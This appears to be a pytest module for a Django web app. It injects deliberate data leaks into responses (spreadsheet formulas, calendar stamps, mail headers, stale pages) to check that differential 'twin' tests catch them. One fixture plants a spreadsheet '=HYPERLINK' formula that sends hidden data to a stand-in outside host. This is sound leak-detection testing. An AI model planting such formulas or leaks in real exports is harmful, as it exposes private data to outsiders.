"""Leaks planted where they would happen: in files that go out, in a calendar, in what a mail is made from, on pages
that everybody sees. With `test_planted.py` every channel of security S1 to S14 has two, and twins tell each."""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping

import pytest
from django.http import HttpRequest, HttpResponse

from tests.web import test_planted
from tests.web.browser import Browser
from tests.web.conftest import NOW
from tests.web.oracle import ROLES
from tests.web.test_doors import browsers
from tests.web.test_planted import PAIRS, Leak, everything, newest
from tests.web.test_twins import Bench, bench
from tests.web.twinned import Asked, told
from waypost.core.goto import goto
from waypost.core.values import Principal
from waypost.usecases.addresses import address_of
from waypost.web.middleware import Headers

__all__ = ["bench", "browsers"]

CHANNELS = [f"S{n}" for n in range(1, 15)]


def _said(answer: HttpResponse, words: object) -> None:
    answer.content = answer.content + str(words).encode()


def formula(http: HttpRequest, answer: HttpResponse) -> None:
    """S11: a cell that is worked out from rows the file does not show."""
    _said(answer, f'"=SUM(A1:A{len(newest())})"')


def hyperlink(http: HttpRequest, answer: HttpResponse) -> None:
    """S11: a link whose address carries what is hidden to whoever is clicked on."""
    _said(answer, f'"=HYPERLINK(""https://elsewhere.example/?{hash(newest())}"")"')


def stamp(http: HttpRequest, answer: HttpResponse) -> None:
    """S12: an entry stamped with the last change of anything."""
    _said(answer, f"DTSTAMP:{everything()[-1].at:%Y%m%dT%H%M%S%f}")


def sequence(http: HttpRequest, answer: HttpResponse) -> None:
    """S12: an entry numbered by all changes there were."""
    _said(answer, f"SEQUENCE:{len(everything()) + len(newest())}")


def sender(http: HttpRequest, answer: HttpResponse) -> None:
    """S13: the text of a mail with what its sender sees, not its recipient."""
    _said(answer, [str(one.note) for one in newest()])


def copies(http: HttpRequest, answer: HttpResponse) -> None:
    """S13: a mail that names everybody who may read some of it."""
    answer["X-Recipients"] = str(hash(tuple(sorted("".join(sorted(one.audience)) + one.id for one in newest()))))


def leftover(http: HttpRequest, answer: HttpResponse) -> None:
    """S14: a page that was built before something was taken from the public, and not built anew."""
    _said(answer, [repr(one.title) for one in everything()[0].elements])


def map_of_pages(http: HttpRequest, answer: HttpResponse) -> None:
    """S14: a list of all pages there are, those not released too."""
    _said(answer, sorted(one.id for one in newest()))


PLANTED: tuple[tuple[Leak, str, str], ...] = (
    *((leak, "marenia", address_of(goto("download", home="marenia", form="json"))) for leak in (formula, hyperlink)),
    *((leak, "marenia", "feed") for leak in (stamp, sequence)),
    *((leak, "marenia", address_of(goto("digest"))) for leak in (sender, copies)),
    *((leak, "", address_of(goto("roadmap", home="tunisia-memorandum"))) for leak in (leftover, map_of_pages)),
)
"""Each leak, who reads, and where."""


def test_every_channel_has_two_leaks() -> None:
    """No channel of security S1 to S14 is without two leaks that are planted and told."""
    planted = [*test_planted.LEAKS, *(one for one, _, _ in PLANTED)]
    about = [re.findall(r"S\d+", (one.__doc__ or "").partition(":")[0]) for one in planted]
    counts = {channel: sum(channel in one for one in about) for channel in CHANNELS}
    assert {channel: n for channel, n in counts.items() if n < 2} == {}


@pytest.fixture(scope="module")
def feed(browsers: Mapping[str, Browser]) -> Iterator[str]:
    """The address of a calendar of Marenia's desk."""
    from waypost.workspace.people import feeds, register

    member = next(one for one in register.members() if one.login == "marenia")
    yield address_of(goto("feed", token=feeds.make(member, "en", NOW)))
    for one in feeds.feeds_of(member, NOW):
        feeds.end(one.id, member, NOW)


@pytest.mark.parametrize(("leak", "role", "where"), PLANTED, ids=[one[0].__name__ for one in PLANTED])
def test_leak_is_caught_where_it_would_happen(
    browsers: Mapping[str, Browser],
    bench: Bench,
    feed: str,
    leak: Leak,
    role: str,
    where: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """With the leak planted, one of the first pairs of twins tells; without it none of these does."""
    answered = Headers.__call__
    asked: Asked = ("GET", feed if where == "feed" else where, ())

    def leaking(self: Headers, http: HttpRequest) -> HttpResponse:
        answer = answered(self, http)
        if http.path == asked[1]:
            leak(http, answer)
        return answer

    eyes = Principal(ROLES[role][0])
    sound = told(browsers[role], asked, bench.first, monkeypatch)
    assert sound.status == 200
    with monkeypatch.context() as planted:
        planted.setattr(Headers, "__call__", leaking)
        here = told(browsers[role], asked, bench.first, monkeypatch)
    # Seeds of their own for each reader: a twin is made for one.
    first = 2_000_001 if role else 3_000_001
    for seed in range(first, first + PAIRS):
        other = bench.kept_twin(eyes, seed)
        assert sound.is_like(told(browsers[role], asked, other, monkeypatch))
        with monkeypatch.context() as planted:
            planted.setattr(Headers, "__call__", leaking)
            if not here.is_like(told(browsers[role], asked, other, monkeypatch)):
                return
    pytest.fail(f"{PAIRS} pairs of twins did not tell the leak")
